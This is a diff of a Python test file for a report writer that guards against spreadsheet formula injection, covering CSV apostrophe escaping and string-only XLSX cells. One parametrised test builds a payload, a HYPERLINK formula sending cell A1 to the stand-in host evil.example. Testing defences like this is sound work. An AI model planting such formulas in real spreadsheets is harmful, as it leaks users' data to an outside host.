@@ -1,5 +1,9 @@
 """The report files as a user opens them: results.csv, results.xlsx and summary.json.
 
+The cell rule (see :mod:`pcxbatch.report.cells`): in the CSV a text that a spreadsheet would
+run as a formula gets a leading apostrophe; in the XLSX every text is a string cell holding the
+text exactly, with no apostrophe.
+
 Files are read back with the ``csv`` module and openpyxl. openpyxl does not decode OOXML's
 ``_xHHHH_`` escape (Excel does), so XLSX text is passed through :func:`excel_text` first: what
 Excel would show.
@@ -22,13 +26,13 @@ import pytest
 from hypothesis import assume, given, settings
 from hypothesis import strategies as st
 
-from pcxbatch import report
 from pcxbatch.model import Outcome, ReportLine
 from pcxbatch.report import (
     RESULT_COLUMNS,
     atomic_write_text,
     neutralise,
     report_headers,
+    table,
     write_results,
     write_summary,
 )
@@ -229,7 +233,9 @@ def test_neutralise_leaves_other_text_alone(text: str) -> None:
 
 
 @pytest.mark.parametrize("prefix", DANGEROUS_PREFIXES)
-def test_every_text_cell_and_header_is_neutralised(tmp_path: Path, prefix: str) -> None:
+def test_every_text_cell_and_header_is_neutralised_in_csv_and_a_string_in_xlsx(
+    tmp_path: Path, prefix: str
+) -> None:
     payload = prefix + 'HYPERLINK("http://evil.example/?"&A1,"x")'
     line = make_line(
         2,
@@ -244,15 +250,17 @@ def test_every_text_cell_and_header_is_neutralised(tmp_path: Path, prefix: str) 
     safe = "'" + payload
 
     assert rows[0][-1] == safe
-    assert sheet[0][-1] == safe
+    assert sheet[0][-1] == payload  # a string cell is never evaluated: no apostrophe needed
     text_columns = [1, 2, 3, 7, 8, 9, 10]
     assert [rows[1][i] for i in text_columns] == [safe] * len(text_columns)
-    assert [sheet[1][i] for i in text_columns] == [safe] * len(text_columns)
+    assert [sheet[1][i] for i in text_columns] == [payload] * len(text_columns)
 
     book = openpyxl.load_workbook(tmp_path / "results.xlsx")
     for cells in book["results"].iter_rows():
         for cell in cells:
             assert cell.data_type != "f", f"{cell.coordinate} is a formula"
+            if isinstance(cell.value, str):
+                assert cell.data_type == "s", f"{cell.coordinate} is not a string cell"
 
 
 # --- text kept exactly -------------------------------------------------------------------------
@@ -262,9 +270,14 @@ def test_every_text_cell_and_header_is_neutralised(tmp_path: Path, prefix: str) 
 _OVERLAPPING_ESCAPES = re.compile("_x[0-9A-Fa-f]{4}(?=_x[0-9A-Fa-f]{4}_)")
 
 
+def cleaned(text: str) -> str:
+    """A lone surrogate (which no UTF-8 file can hold) becomes U+FFFD."""
+    return re.sub("[\ud800-\udfff]", "\ufffd", text)
+
+
 def as_written(text: str) -> str:
-    """The documented rule: neutralised, and a lone surrogate (not UTF-8) becomes U+FFFD."""
-    return re.sub("[\ud800-\udfff]", "\ufffd", neutralise(text))
+    """The documented CSV rule: neutralised and cleaned."""
+    return cleaned(neutralise(text))
 
 
 @settings(max_examples=60, deadline=None)
@@ -274,7 +287,7 @@ def as_written(text: str) -> str:
         alphabet=st.one_of(st.characters(), st.sampled_from('_x0Fa=\r\n\t",;')), max_size=40
     ),
 )
-def test_any_text_round_trips_as_neutralised_text(
+def test_any_text_round_trips_neutralised_in_csv_and_exactly_in_xlsx(
     tmp_path_factory: pytest.TempPathFactory, message: str, value: str
 ) -> None:
     assume(not _OVERLAPPING_ESCAPES.search(message + "\0" + value))
@@ -285,11 +298,11 @@ def test_any_text_round_trips_as_neutralised_text(
     assert rows[1][7] == as_written(message)
     assert rows[1][9] == as_written(value)
     # XLSX: an empty string is an empty cell.
-    assert sheet[1][7] == (as_written(message) or None)
-    assert sheet[1][9] == (as_written(value) or None)
+    assert sheet[1][7] == (cleaned(message) or None)
+    assert sheet[1][9] == (cleaned(value) or None)
     header = report_headers([value or "blank"])[-1]
     assert rows[0][9] == as_written(header)
-    assert sheet[0][9] == as_written(header)
+    assert sheet[0][9] == cleaned(header)
 
 
 def test_control_characters_do_not_corrupt_the_xlsx(tmp_path: Path) -> None:
@@ -320,8 +333,8 @@ def test_text_longer_than_an_excel_cell_is_cut_with_a_note(tmp_path: Path, unit:
     cell = sheet[1][7]
     assert isinstance(cell, str)
     assert _utf16_len(cell) <= 32_767
-    assert cell.startswith("'=" + unit * 1000)
-    assert "truncated" in cell and "40,002" in cell and "results.csv" in cell  # as in the CSV
+    assert cell.startswith("=" + unit * 1000)
+    assert "truncated" in cell and "40,001" in cell and "results.csv" in cell  # as in the CSV
     assert "\ufffd" not in cell  # never cut inside a surrogate pair
 
 
@@ -337,7 +350,7 @@ def test_text_at_the_excel_limit_is_kept_whole(tmp_path: Path) -> None:
 def test_lines_beyond_a_sheet_continue_on_the_next(
     tmp_path: Path, monkeypatch: pytest.MonkeyPatch
 ) -> None:
-    monkeypatch.setattr(report, "XLSX_ROWS_PER_SHEET", 3)
+    monkeypatch.setattr(table, "XLSX_ROWS_PER_SHEET", 3)
     write_results(tmp_path, INPUT_COLUMNS, (make_line(r) for r in range(2, 9)), xlsx=True)
     sheets = read_xlsx(tmp_path / "results.xlsx")
 
@@ -362,7 +375,7 @@ def test_lines_beyond_a_sheet_continue_on_the_next(
 def test_sheet_titles_are_made_valid(
     tmp_path: Path, monkeypatch: pytest.MonkeyPatch, title: str, expected: list[str]
 ) -> None:
-    monkeypatch.setattr(report, "XLSX_ROWS_PER_SHEET", 1)
+    monkeypatch.setattr(table, "XLSX_ROWS_PER_SHEET", 1)
     write_results(tmp_path, INPUT_COLUMNS, [make_line(2), make_line(3)], xlsx=True,
                   sheet_title=title)  # fmt: skip
     assert list(read_xlsx(tmp_path / "results.xlsx")) == expected
